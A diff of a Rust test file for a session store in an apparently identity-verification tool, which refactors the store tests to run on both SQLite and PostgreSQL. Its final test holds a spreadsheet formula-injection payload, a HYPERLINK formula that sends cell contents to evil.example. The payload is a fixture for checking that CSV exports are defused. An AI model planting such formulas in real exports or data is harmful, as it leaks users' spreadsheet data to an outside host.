@@ -13,7 +13,7 @@ fn t(y: i32, m: u32, d: u32, h: u32) -> DateTime<Utc> {
     Utc.with_ymd_and_hms(y, m, d, h, 0, 0).unwrap()
 }
 
-struct Spec<'a> {
+pub(crate) struct Spec<'a> {
     first: &'a str,
     last: &'a str,
     vendor: &'a str,
@@ -22,14 +22,22 @@ struct Spec<'a> {
     profile: &'a str,
 }
 
-/// Deterministic ids (hex, no letters past f) so searches cannot hit them by chance.
+/// Deterministic, unique ids (hex, no letters past f) so searches cannot hit them by chance.
 fn next_session_id() -> String {
     static N: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);
     let n = N.fetch_add(1, std::sync::atomic::Ordering::Relaxed);
-    format!("cafe{n:04x}-0000-4000-8000-{n:012x}")
+    // The counter in the letters a-f only (base 6): no digit a search looks for can come
+    // from it, however many tests ran before in this process.
+    let mut letters = String::new();
+    let mut rest = n;
+    while letters.len() < 12 {
+        letters.insert(0, char::from(b'a' + (rest % 6) as u8));
+        rest /= 6;
+    }
+    format!("cafe{}-0000-4000-8000-{letters}", &letters[8..])
 }
 
-fn spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> Spec<'static> {
+pub(crate) fn spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> Spec<'static> {
     Spec {
         first,
         last,
@@ -40,7 +48,7 @@ fn spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> Spec
     }
 }
 
-fn add(store: &Store, s: &Spec<'_>) -> Record {
+pub(crate) fn add(store: &Store, s: &Spec<'_>) -> Record {
     let input = SessionInput {
         first_name: s.first.into(),
         last_name: s.last.into(),
@@ -77,6 +85,53 @@ fn temp_store() -> (tempfile::TempDir, Store) {
     (dir, store)
 }
 
+/// Store tests that hold for both stores: each runs on a SQLite file in a temp dir
+/// (`NAME::sqlite`) and on a database of its own on the test PostgreSQL server
+/// (`NAME::postgres`; `support::pg`).
+macro_rules! on_both_stores {
+    ($($name:ident),* $(,)?) => {$(
+        mod $name {
+            #[test]
+            fn sqlite() {
+                let (_dir, store) = super::temp_store();
+                super::$name(&store)
+            }
+            #[test]
+            fn postgres() {
+                let db = crate::support::pg::Database::new();
+                super::$name(&db.store())
+            }
+        }
+    )*};
+}
+
+on_both_stores!(
+    insert_and_get_round_trip_every_field,
+    prefix_lookup_needs_a_unique_prefix,
+    any_prefix_is_matched_and_an_ambiguous_one_names_its_matches,
+    pages_are_newest_first,
+    extra_fields_round_trip_and_identifiers_are_searchable,
+    search_matches_names_id_and_vendor_data_ignoring_case,
+    decisions_are_recorded,
+    delete_removes_only_that_row,
+    pending_skips_final_and_expired_oldest_first,
+    status_counts_treat_overdue_sessions_as_expired,
+    per_day_fills_empty_days,
+    first_page_and_count_agrees_with_page_and_count_up_to,
+    a_term_is_matched_whole_not_by_its_trigrams,
+    every_csv_column_is_defused_not_only_the_typed_ones,
+);
+
+/// The same history opened again: the file, or the database (the test URLs hold no
+/// password, so the URL as shown is the whole URL).
+fn reopen(store: &Store) -> Store {
+    if store.is_shared() {
+        Store::open_url(store.path()).unwrap()
+    } else {
+        Store::open(Path::new(store.path())).unwrap()
+    }
+}
+
 /// First names of the records found by `s`.
 fn search(store: &Store, s: &str) -> Vec<String> {
     found(store, s).into_iter().map(|r| r.first_name).collect()
@@ -92,9 +147,7 @@ fn found(store: &Store, s: &str) -> Vec<Record> {
         .unwrap()
 }
 
-#[test]
-fn insert_and_get_round_trip_every_field() {
-    let (_dir, store) = temp_store();
+fn insert_and_get_round_trip_every_field(store: &Store) {
     let created =
         Utc.with_ymd_and_hms(2026, 3, 4, 5, 6, 7).unwrap() + ChronoDuration::microseconds(123_456);
     let input = SessionInput {
@@ -144,10 +197,8 @@ fn insert_and_get_round_trip_every_field() {
     assert_eq!(store.find_by_session_id("zzzz").unwrap(), None);
     assert_eq!(store.get(rec.id + 1).unwrap(), None);
 
-    // Reopening reads the same from disk.
-    let path = PathBuf::from(store.path());
-    drop(store);
-    let store = Store::open(&path).unwrap();
+    // Reopening reads the same from disk (or the server).
+    let store = reopen(store);
     assert_eq!(store.get(rec.id).unwrap(), Some(rec.clone()));
 
     // The same session twice is refused with a plain message; the first stays.
@@ -165,9 +216,7 @@ fn insert_and_get_round_trip_every_field() {
     assert_eq!(store.count(&Query::default()).unwrap(), 1);
 }
 
-#[test]
-fn prefix_lookup_needs_a_unique_prefix() {
-    let (_dir, store) = temp_store();
+fn prefix_lookup_needs_a_unique_prefix(store: &Store) {
     let mut a = spec("A", "A", t(2026, 1, 1, 0));
     a.session_id = "abcd1111-0000-4000-8000-000000000000".into();
     let mut b = spec("B", "B", t(2026, 1, 1, 0));
@@ -195,9 +244,7 @@ fn prefix_lookup_needs_a_unique_prefix() {
     );
 }
 
-#[test]
-fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches() {
-    let (_dir, store) = temp_store();
+fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches(store: &Store) {
     let ids = [
         "abcd1111-0000-4000-8000-000000000000",
         "abcd2222-0000-4000-8000-000000000000",
@@ -231,9 +278,7 @@ fn any_prefix_is_matched_and_an_ambiguous_one_names_its_matches() {
     );
 }
 
-#[test]
-fn pages_are_newest_first() {
-    let (_dir, store) = temp_store();
+fn pages_are_newest_first(store: &Store) {
     let base = t(2026, 1, 1, 0);
     let mut ids = Vec::new();
     for i in 0..25 {
@@ -314,9 +359,7 @@ fn pages_are_newest_first() {
 /// The fields beyond the names are kept as sent, and a record is found by the person's
 /// identifiers among them (id number, email, end-user id), by short and long terms alike,
 /// but not by the others (a date of birth or an address is no way to look someone up).
-#[test]
-fn extra_fields_round_trip_and_identifiers_are_searchable() {
-    let (_dir, store) = temp_store();
+fn extra_fields_round_trip_and_identifiers_are_searchable(store: &Store) {
     let day = t(2026, 2, 1, 0);
     add(&store, &spec("Plain", "Row", day));
     let extra = veriff_tui::veriff::Extras {
@@ -380,9 +423,7 @@ fn extra_fields_round_trip_and_identifiers_are_searchable() {
     assert!(search(&store, "18").is_empty());
 }
 
-#[test]
-fn search_matches_names_id_and_vendor_data_ignoring_case() {
-    let (_dir, store) = temp_store();
+fn search_matches_names_id_and_vendor_data_ignoring_case(store: &Store) {
     let day = t(2026, 2, 1, 0);
     add(&store, &spec("John", "Smith", day));
     add(
@@ -470,9 +511,7 @@ fn search_matches_names_id_and_vendor_data_ignoring_case() {
     assert_eq!(search(&store, "smith"), ["Jane"]);
 }
 
-#[test]
-fn decisions_are_recorded() {
-    let (_dir, store) = temp_store();
+fn decisions_are_recorded(store: &Store) {
     let now = Utc::now();
     let a = add(&store, &spec("A", "A", now - ChronoDuration::hours(3)));
     let b = add(&store, &spec("B", "B", now - ChronoDuration::hours(2)));
@@ -564,9 +603,7 @@ fn decisions_are_recorded() {
     assert_eq!(pending, ["C"]);
 }
 
-#[test]
-fn delete_removes_only_that_row() {
-    let (_dir, store) = temp_store();
+fn delete_removes_only_that_row(store: &Store) {
     let a = add(&store, &spec("A", "A", t(2026, 1, 1, 0)));
     let b = add(&store, &spec("B", "B", t(2026, 1, 1, 1)));
     assert!(store.delete(a.id).unwrap());
@@ -576,9 +613,7 @@ fn delete_removes_only_that_row() {
     assert_eq!(store.count(&Query::default()).unwrap(), 1);
 }
 
-#[test]
-fn pending_skips_final_and_expired_oldest_first() {
-    let (_dir, store) = temp_store();
+fn pending_skips_final_and_expired_oldest_first(store: &Store) {
     let now = Utc::now();
     let expired = add(&store, &spec("Old", "X", now - ChronoDuration::days(8)));
     let first = add(&store, &spec("First", "X", now - ChronoDuration::days(3)));
@@ -623,9 +658,7 @@ fn count_of(counts: &[(SessionStatus, u64)], s: &SessionStatus) -> u64 {
     counts.iter().find(|(x, _)| x == s).map_or(0, |(_, n)| *n)
 }
 
-#[test]
-fn status_counts_treat_overdue_sessions_as_expired() {
-    let (_dir, store) = temp_store();
+fn status_counts_treat_overdue_sessions_as_expired(store: &Store) {
     let now = t(2026, 6, 10, 12);
     let mk = |name: &'static str, days_ago: i64, profile: &'static str| {
         let mut s = spec(name, "X", now - ChronoDuration::days(days_ago));
@@ -694,9 +727,7 @@ fn status_counts_treat_overdue_sessions_as_expired() {
     );
 }
 
-#[test]
-fn per_day_fills_empty_days() {
-    let (_dir, store) = temp_store();
+fn per_day_fills_empty_days(store: &Store) {
     let now = t(2026, 3, 10, 15);
     for (d, h) in [(10, 0), (10, 14), (8, 23), (4, 1)] {
         add(&store, &spec("x", "y", t(2026, 3, d, h)));
@@ -1275,9 +1306,7 @@ fn opening_a_version_1_history_indexes_its_records_for_short_terms() {
     assert_eq!(search(&store, "li"), ["Lia", "Li"]);
 }
 
-#[test]
-fn first_page_and_count_agrees_with_page_and_count_up_to() {
-    let (_dir, store) = temp_store();
+fn first_page_and_count_agrees_with_page_and_count_up_to(store: &Store) {
     let day = t(2026, 4, 1, 0);
     for h in 0..7 {
         add(
@@ -1327,9 +1356,7 @@ fn own_spec(first: &'static str, last: &'static str, created: DateTime<Utc>) -> 
     }
 }
 
-#[test]
-fn a_term_is_matched_whole_not_by_its_trigrams() {
-    let (_dir, store) = temp_store();
+fn a_term_is_matched_whole_not_by_its_trigrams(store: &Store) {
     let day = t(2026, 5, 1, 0);
     // Every trigram of "abcab" (abc, bca, cab), but never the term itself.
     add(&store, &own_spec("Abca", "Cab", day));
@@ -1855,9 +1882,7 @@ fn text_written_into_the_file_by_anything_else_is_read_back_safe() {
     assert_eq!(back.decision_reason.as_deref(), Some("bad2J"));
 }
 
-#[test]
-fn every_csv_column_is_defused_not_only_the_typed_ones() {
-    let (_dir, store) = temp_store();
+fn every_csv_column_is_defused_not_only_the_typed_ones(store: &Store) {
     let mut s = spec("Anna", "Smith", t(2026, 11, 25, 10));
     // What a hostile server could answer: an id, a host and a decision that are formulas.
     s.session_id = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
